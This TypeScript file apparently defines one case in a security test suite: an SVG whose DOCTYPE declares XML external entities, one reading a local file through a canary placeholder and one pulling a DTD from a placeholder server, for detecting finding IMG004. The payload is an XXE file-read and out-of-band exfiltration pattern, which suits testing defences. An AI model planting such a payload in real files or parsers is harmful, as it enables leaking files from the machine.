import type { MadeAttack } from "../../attack.ts";
import { svgOf } from "../../images.ts";

export const attack: MadeAttack = {
  what: "Entities of a drawing that read a file of the machine",
  says: ["IMG004"],
  files: {
    "a.svg": `<!DOCTYPE svg [<!ENTITY canary SYSTEM "%CANARY%"><!ENTITY % far SYSTEM "%SERVER%/dtd"> %far;]>${svgOf("<title>&canary;</title>")}`,
  },
};
